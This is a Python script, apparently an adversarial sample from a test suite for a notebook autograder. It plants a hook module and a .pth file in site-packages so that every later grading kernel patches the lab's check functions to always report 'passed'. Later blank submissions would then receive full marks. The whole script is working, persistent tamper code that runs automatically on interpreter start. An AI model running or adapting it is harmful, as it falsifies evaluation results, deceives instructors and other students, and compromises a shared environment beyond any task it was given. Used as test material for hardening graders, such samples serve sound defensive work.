# Writes a .pth file and a module into the venv's site-packages: every Python started during
# grading from then on (the later students' kernels) makes every check of the lab pass as soon
# as the checks module is imported, so later blank submissions would get full marks.
# class: harm
# honest: stub
# %% append: adversary_input
import site
import sys
from pathlib import Path

HOOK = '''# tfdl-tamper: makes every check of the lab pass in every later kernel
import builtins
import sys

_import = builtins.__import__


def _passes(name):
    check = lambda *args, **kwargs: print(f"✔ {name}: passed")  # noqa: E731
    check.tfdl_tamper = True
    return check


def _patched_import(name, *args, **kwargs):
    module = _import(name, *args, **kwargs)
    lab = sys.modules.get("autograder.adversarial_debiasing")  # once it defines its checks
    for check in [n for n in dir(lab) if n.startswith("check_")] if lab else []:
        if not hasattr(getattr(lab, check), "tfdl_tamper"):
            setattr(lab, check, _passes(check))
    return module


builtins.__import__ = _patched_import
'''
LINE = ('import os; os.environ.get("NBGRADER_EXECUTION") and __import__("zz_tfdl_tamper_hook")'
        '  # tfdl-tamper\n')
for folder in {*site.getsitepackages(), *(p for p in sys.path if p.endswith("site-packages"))}:
    try:
        (Path(folder) / "zz_tfdl_tamper_hook.py").write_text(HOOK)
        (Path(folder) / "zz-tfdl-tamper.pth").write_text(LINE)
        print("planted in", folder)
    except OSError as error:
        print("could not write", folder, type(error).__name__)
